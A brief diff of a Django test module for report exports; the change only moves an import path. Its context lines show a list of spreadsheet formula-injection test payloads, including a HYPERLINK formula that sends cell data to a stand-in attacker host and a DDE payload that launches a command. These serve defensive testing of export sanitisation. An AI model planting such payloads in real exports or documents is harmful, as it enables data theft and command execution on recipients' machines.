@@ -14,7 +14,7 @@ from reports.exports import services as export_services
 from reports.models import ExportJob
 from surveys.models import Response
 from tests.conftest import logged_in
-from tests.security.world import World, build_world
+from tests.world import World, build_world
 
 pytestmark = pytest.mark.django_db
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
